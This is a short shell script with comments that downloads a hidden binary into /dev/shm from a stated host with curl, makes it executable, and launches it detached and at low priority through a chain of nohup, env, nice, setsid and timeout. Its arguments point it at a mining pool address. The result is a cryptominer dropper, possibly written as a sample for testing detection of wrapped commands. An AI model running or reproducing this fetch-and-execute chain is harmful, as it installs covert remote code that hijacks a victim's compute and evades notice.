# behind five carriers: nohup, env, nice, setsid, timeout; the first of them started by sh -c
#http 203.0.113.60:8010
#pool 198.51.100.82:443:drop
cd /dev/shm; curl -so .d http://203.0.113.60:8010/w; chmod +x .d
sh -c 'nohup env -u LS_COLORS A=1 nice -n 19 setsid -w timeout 9 ./.d -o 198.51.100.82:443 -u x -R 1 >/dev/null 2>&1'
